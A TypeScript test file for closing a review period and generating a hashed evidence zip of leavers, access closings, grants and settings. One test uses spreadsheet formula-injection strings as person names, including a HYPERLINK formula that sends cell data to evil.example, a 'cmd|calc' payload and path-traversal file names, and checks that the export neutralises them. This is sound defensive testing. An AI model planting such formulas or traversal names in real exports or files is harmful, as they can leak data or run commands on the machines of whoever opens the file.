import { createHash } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import { beforeEach, expect, test } from 'vitest'
import { evidenceTables } from '../contract/evidence-tables'
import { NotAllowed } from '../domain/errors'
import type { Uuid } from '../domain/ids'
import { DAY, type Instant, instant, plus } from '../domain/instant'
import { accessKey } from '../domain/testing/facts'
import { systemViewer } from '../domain/viewer'
import { newId } from '../store/engine/new-id'
import { packZip } from '../store/read/evidence-packs'
import { decisions } from '../store/schema/decisions'
import { directoryUsers } from '../store/schema/directory'
import { stageSpans } from '../store/schema/iam-users'
import { leaverCases } from '../store/schema/leaver-cases'
import { people } from '../store/schema/people'
import { describeOneStore } from '../store/testing/describe-stores'
import { listedUser, type StoredAccount, storedAccount } from '../store/testing/listed-users'
import { directoryUser, storedPerson } from '../store/testing/stored-people'
import { recordEvents } from '../store/write/record-event'
import { verifyEvents } from '../store/write/seal-events'
import { rememberSignIn } from '../store/write/sessions'
import { closePeriod, type GrantedRoles, type PeriodClosing } from './close-period'
import { setReviewSettings } from './set-review-settings'
import { setRoster } from './set-roster'
import { ADMIN, deciding, ENGINEER } from './testing/deciding'

const OCTOBER = { from: '2026-10-01', to: '2026-10-31' }
const NOW = instant('2026-11-23T03:00:00Z')
const GRANTS: GrantedRoles = {
  admin: ['admin@example.com'],
  engineer: [],
  auditor: [],
  hr: [],
  reviewer: [],
  viewer: ['@example.com'],
}
const explained: PeriodClosing['explained'] = ({ from, tables }) => [
  { name: 'README.txt', text: `${from}: ${tables.map(({ name }) => name).join(' ')}\n` },
]
const BROUGHT: PeriodClosing = { grants: GRANTS, explained }
const LINK = { method: 'email-tag', confidence: 'certain' } as const

describeOneStore('the evidence of a period', (store) => {
  const { as, told } = deciding(store)
  let main: StoredAccount
  beforeEach(async () => {
    main = await storedAccount(store.db, 'main')
  })
  const close = (more: object = {}, now: Instant = NOW) => closePeriod(as(ADMIN, now), { ...OCTOBER, ...more }, BROUGHT)
  async function bytesOf(id: Uuid | undefined): Promise<Uint8Array> {
    if (!id) throw new Error('there is no pack')
    const parts: Uint8Array[] = []
    for await (const part of packZip(store.db, id)) parts.push(part)
    return Buffer.concat(parts)
  }
  async function filesOf(id: Uuid | undefined): Promise<(name: string) => string> {
    const files = unzipSync(await bytesOf(id))
    return (name) => new TextDecoder().decode(files[name])
  }
  /** Somebody who left on a day, with an IAM user that a scan saw shut then. */
  async function leaver(name: string, lastDay: string, shutAt: Instant | null) {
    const person = await storedPerson(store.db, name, {
      status: 'left',
      lastDay,
      directory: directoryUser(`of-${lastDay}`),
    })
    const stage = shutAt ? 'disabled' : 'identified'
    const user = await listedUser(
      store.db,
      main,
      { name: name.toLowerCase(), credentials: shutAt ? [] : [accessKey({ id: newId() })] },
      { match: { personId: person.id, ...LINK }, stage },
    )
    const span = { user, account: main.id, kind: 'human', excepted: false } as const
    await store.db
      .insert(stageSpans)
      .values([
        { ...span, stage: 'identified', fromAt: instant('2026-01-01'), toAt: shutAt },
        ...(shutAt ? [{ ...span, stage: 'disabled' as const, fromAt: shutAt, toAt: null }] : []),
      ])
    return { person, user }
  }
  const leftEvent = (person: Uuid, recordedAt: Instant) =>
    store.db.transaction((tx) =>
      recordEvents(tx, [
        {
          recordedAt,
          happenedAfter: null,
          happenedBy: recordedAt,
          actor: systemViewer('scan').actor,
          subjects: [person],
          news: { type: 'person-left', from: 'active', lastDay: '2026-10-10' },
        },
      ]),
    )

  test('tells of everybody who left in it when the roster first said so, and when a scan saw each way in shut', async () => {
    const sato = await leaver('Sato', '2026-10-10', instant('2026-10-14T02:00:00Z'))
    await leftEvent(sato.person.id, instant('2026-10-12T00:00:00Z'))
    await leaver('Mori', '2026-10-31', null)
    await leaver('Later', '2026-11-01', null)
    const ended = await storedPerson(store.db, 'Ended', { status: 'access-ended' })
    const file = await filesOf((await close()).pack?.id)
    expect(JSON.parse(file('population.json'))).toMatchObject([
      {
        person: sato.person.id,
        leaving_date: '2026-10-10',
        roster_first_said: '2026-10-12T00:00:00.000Z',
        ways_in: 2,
        open: 1,
      },
      { leaving_date: '2026-10-31', roster_first_said: null, ways_in: 2, open: 2 },
    ])
    expect(JSON.parse(file('closings.json'))[0]).toMatchObject({
      subject: sato.user,
      state: 'shut',
      seen_shut: '2026-10-14T02:00:00.000Z',
      days_after_leaving: 4,
    })
    expect(JSON.parse(file('exclusions.json'))).toMatchObject([{ subject: ended.id, because: 'access-ended' }])
    expect(JSON.parse(file('grants.json'))).toContainEqual({ role: 'viewer', granted_to: '@example.com' })
    // Nothing in it runs when a spreadsheet opens it.
    expect(file('grants.csv')).toContain("viewer,'@example.com")
    expect(file('settings.csv')).toContain('timeZone,Asia/Tokyo')
  })

  test('tells of a leaving date announced ahead when the first import came that carried it, and anew of a corrected one', async () => {
    const entry = (employeeNumber: string, leavingDate: string | null) => ({
      employeeNumber,
      emails: [`p${employeeNumber}@example.com`],
      name: `Person ${employeeNumber}`,
      employment: 'employee',
      status: 'active',
      leavingDate,
    })
    const imports = [
      ['2026-09-01T00:00:00Z', '2026-10-10', '2026-10-20'],
      ['2026-09-08T00:00:00Z', '2026-10-10', '2026-10-21'],
      ['2026-11-01T00:00:00Z', '2026-10-10', '2026-10-21'],
    ] as const
    for (const [at, one, other] of imports)
      await setRoster(as(ADMIN, instant(at)), {
        people: [entry('1', one), entry('2', other), entry('3', null)],
        confirm: true,
      })
    const file = await filesOf((await close()).pack?.id)
    expect(JSON.parse(file('population.json'))).toMatchObject([
      { leaving_date: '2026-10-10', roster_first_said: '2026-09-01T00:00:00.000Z' },
      { leaving_date: '2026-10-21', roster_first_said: '2026-09-08T00:00:00.000Z' },
    ])
  })

  test('leaves out of its exclusions whoever is asked about since after its end', async () => {
    const asked = (name: string, since: string) =>
      storedPerson(store.db, name, {
        status: 'ask',
        lastDay: since,
        ask: { because: 'contract-ended', since, source: 'personnel' },
      })
    const during = await asked('During', '2026-10-31')
    await asked('After', '2026-11-01')
    const ended = async (name: string, goneAt: string) => {
      const directory = directoryUser(name)
      const more = { displayName: name, givenName: null, familyName: null, emails: [], externalIds: [] }
      const facts = { userId: `u-${name}`, userName: name, status: 'disabled' as const, ...more }
      await store.db
        .insert(directoryUsers)
        .values({ userId: facts.userId, facts, firstSeenAt: NOW, nameSince: NOW, goneAt: instant(goneAt) })
      return storedPerson(store.db, name, { status: 'access-ended', directory })
    }
    const gone = await ended('gone', '2026-10-31T14:00:00Z')
    await ended('later', '2026-10-31T16:00:00Z')
    const file = await filesOf((await close()).pack?.id)
    const rows: { subject: string; at: string }[] = JSON.parse(file('exclusions.json'))
    expect(rows.map(({ subject, at }) => [subject, at]).toSorted()).toEqual(
      [
        [during.id, '2026-10-31'],
        [gone.id, '2026-10-31T14:00:00.000Z'],
      ].toSorted(),
    )
  })

  test('names nobody but in the files of names and comments, and every file has its hash', async () => {
    const { person } = await leaver('Sato', '2026-10-10', null)
    await leftEvent(person.id, instant('2026-10-12T00:00:00Z'))
    const files = unzipSync(await bytesOf((await close()).pack?.id))
    const texts = Object.entries(files).map(([name, bytes]) => [name, Buffer.from(bytes).toString()] as const)
    const naming = texts.filter(([, text]) => /sato|admin@example\.com/i.test(text)).map(([name]) => name)
    expect(naming.toSorted()).toEqual(['grants.csv', 'grants.json', 'names.csv', 'names.json'])
    const sums = texts.find(([name]) => name === 'SHA256SUMS')?.[1] ?? ''
    const wanted = Object.keys(files).filter((name) => name !== 'SHA256SUMS')
    expect(sums.trim().split('\n')).toHaveLength(wanted.length)
    for (const name of wanted)
      expect(sums).toContain(
        `${createHash('sha256')
          .update(files[name] ?? '')
          .digest('hex')}  ${name}\n`,
      )
  })

  test('names whoever and whatever its tables tell by an id, and who held which role', async () => {
    const boss = await storedPerson(store.db, 'Boss')
    const sato = await leaver('Sato', '2026-10-10', null)
    await store.db.insert(leaverCases).values({
      id: newId(),
      person: sato.person.id,
      openedAt: instant('2026-10-10T15:00:00Z'),
      leavingDate: '2026-10-10',
      due: '2026-10-10',
      lateAfter: '2026-10-10',
      assignee: boss.id,
      assignedBecause: 'manager',
      state: 'open',
    })
    const other = await listedUser(store.db, main, { name: 'deploy' })
    await store.db.insert(decisions).values({
      id: newId(),
      at: instant('2026-10-20T00:00:00Z'),
      actor: ENGINEER.actor,
      type: 'answer-dormant',
      subjectKind: 'iam-user',
      subject: other,
      value: { answer: 'needed', reason: 'Runs each quarter' },
    })
    await rememberSignIn(store.db, { email: 'admin@example.com', name: 'Admin', groups: [] }, NOW)
    const file = await filesOf((await close()).pack?.id)
    const names: { id: string; name: string }[] = JSON.parse(file('names.json'))
    const nameOf = (id: string) => names.find((one) => one.id === id)?.name
    const [told] = JSON.parse(file('cases.json'))
    expect(nameOf(told.assignee)).toBe('Boss')
    expect(JSON.parse(file('decisions.json'))).toMatchObject([{ subject: other, answer: 'needed' }])
    expect(nameOf(other)).toBe('deploy')
    const holders: { holder: string; role: string }[] = JSON.parse(file('role_holders.json'))
    expect(holders.map(({ holder, role }) => [nameOf(holder), role])).toEqual([
      ['Admin', 'admin'],
      ['Admin', 'viewer'],
    ])
    expect(file('role_holders.json')).not.toContain('admin@')
  })

  test('holds no file but those that it lists, in no folder, and nothing that a spreadsheet would run', async () => {
    const worst = '=HYPERLINK("https://evil.example/?"&A1,"../../etc/passwd")'
    const { person } = await leaver(worst, '2026-10-10', null)
    await leftEvent(person.id, instant('2026-10-12T00:00:00Z'))
    for (const name of ['@SUM(1)', '+1', '-1+cmd|calc', '\t=1', '../../../outside.csv'])
      await leftEvent((await leaver(name, '2026-10-11', null)).person.id, instant('2026-10-12T00:00:00Z'))
    const files = unzipSync(await bytesOf((await close()).pack?.id))
    for (const name of Object.keys(files)) expect(name).toMatch(/^\w+(\.(csv|json|txt))?$/)
    expect(JSON.parse(Buffer.from(files['names.json'] ?? []).toString())).toContainEqual(
      expect.objectContaining({ name: worst }),
    )
    for (const [name, bytes] of Object.entries(files).filter(([file]) => file.endsWith('.csv'))) {
      const rows: string[][] = parse(Buffer.from(bytes).toString(), { bom: true, relax_column_count: true })
      expect(
        rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
        name,
      ).toEqual([])
    }
  })

  test('tells the settings in force, and each change since the period began with the last before it', async () => {
    const set = (dueBusinessDays: number, at: string) =>
      setReviewSettings(as(ADMIN, instant(at)), {
        dueFrom: 'leaving-date',
        dueBusinessDays,
        companyHolidays: [],
        securityContact: 'security@example.com',
      })
    for (const [days, at] of [
      [1, '2026-08-01T00:00:00Z'],
      [2, '2026-09-01T00:00:00Z'],
      [3, '2026-10-15T00:00:00Z'],
    ] as const)
      await set(days, at)
    const file = await filesOf((await close()).pack?.id)
    const changes: { setting: string; value: unknown; actor: string }[] = JSON.parse(file('setting_changes.json'))
    expect(changes.flatMap(({ setting, value }) => (setting === 'dueBusinessDays' ? value : []))).toEqual([2, 3])
    expect(JSON.parse(file('settings.json'))).toContainEqual({ setting: 'dueBusinessDays', value: 3 })
    expect(file('settings.json') + file('setting_changes.json')).not.toContain('security@example.com')
    expect(file('README.txt')).toContain('setting_changes')
    expect(file('SHA256SUMS')).toContain('  README.txt\n')
  })

  test('is the same bytes however often it is asked for, whatever came to light since', async () => {
    const { person } = await leaver('Sato', '2026-10-10', null)
    const first = await close()
    const bytes = await bytesOf(first.pack?.id)
    await store.db.update(people).set({ name: 'Suzuki', lastDay: '2026-10-20' })
    await leftEvent(person.id, plus(NOW, DAY))
    const again = await close({}, plus(NOW, 2 * DAY))
    expect({ id: again.pack?.id, made: again.made }).toEqual({ id: first.pack?.id, made: false })
    expect(Buffer.compare(await bytesOf(again.pack?.id), bytes)).toBe(0)
    expect(await told('period-closed')).toMatchObject([{ data: { pack: first.pack?.id, number: 0 } }])
    expect((await verifyEvents(store.db)).broken).toBeNull()
  })

  test('gets what came to light later as numbered addenda, and none where nothing did', async () => {
    await leaver('Sato', '2026-10-10', null)
    const { pack } = await close()
    expect(await close({ addendum: true }, plus(NOW, DAY))).toEqual({ pack: null, made: false, overlaps: [] })
    const late = await leaver('Backdated', '2026-10-05', null)
    const added = await close({ addendum: true }, plus(NOW, 2 * DAY))
    expect(added).toMatchObject({ made: true, pack: { number: 1 } })
    const file = await filesOf(added.pack?.id)
    expect(JSON.parse(file('population.json'))).toMatchObject([{ person: late.person.id }])
    // What was in force stands in the pack alone: nobody is led to a file that is not there.
    const tables = evidenceTables().map(({ name }) => name)
    const names = JSON.parse(file('manifest.json')).files.map(({ name }: { name: string }) => name)
    const readme = file('README.txt')
    expect(tables.filter((name) => readme.includes(name))).toEqual(
      tables.filter((name) => names.includes(`${name}.csv`)),
    )
    expect(readme).not.toContain('role_holders')
    expect(file('manifest.json')).not.toContain('grants.csv')
    expect(await close({ addendum: true }, plus(NOW, 3 * DAY))).toEqual({ pack: null, made: false, overlaps: [] })
    expect((await close()).pack?.id).toBe(pack?.id)
  })

  test('tells of other closed periods that share a day with it, and is closed all the same', async () => {
    expect((await close()).overlaps).toEqual([])
    const wider = await close({ from: '2026-09-01' })
    expect(wider).toMatchObject({ made: true, overlaps: [OCTOBER] })
    expect((await close({ from: '2026-11-01', to: '2026-11-10' })).overlaps).toEqual([])
    expect((await close()).overlaps).toEqual([{ from: '2026-09-01', to: '2026-10-31' }])
  })

  test('is closed once, however many ask at the same moment: others get the same, or are told so', async () => {
    await leaver('Sato', '2026-10-10', null)
    const asked = await Promise.allSettled([close(), close(), close()])
    const made = asked.flatMap((one) => (one.status === 'fulfilled' && one.value.made ? one.value.pack?.id : []))
    expect(made).toHaveLength(1)
    for (const one of asked)
      if (one.status === 'rejected') expect(one.reason).toMatchObject({ code: 'period-closing' })
      else expect(one.value.pack?.id).toBe(made[0])
    expect((await close()).pack?.id).toBe(made[0])
  })

  test('is of a period that has ended, in the company’s time zone, and closed by an admin', async () => {
    const ending = instant('2026-10-31T14:59:59Z')
    await expect(close({}, ending)).rejects.toMatchObject({ fields: [{ code: 'period-open' }] })
    await expect(close({ to: '2026-09-30' })).rejects.toMatchObject({ fields: [{ code: 'period-open' }] })
    await expect(close({ addendum: true })).rejects.toMatchObject({ fields: [{ code: 'period-not-closed' }] })
    await expect(close({ from: 'October' })).rejects.toMatchObject({ fields: [{ code: 'period-day' }] })
    await expect(closePeriod(as(ENGINEER), OCTOBER, BROUGHT)).rejects.toThrowError(NotAllowed)
    expect((await close({}, plus(ending, 1_000))).made).toBe(true)
  })
})
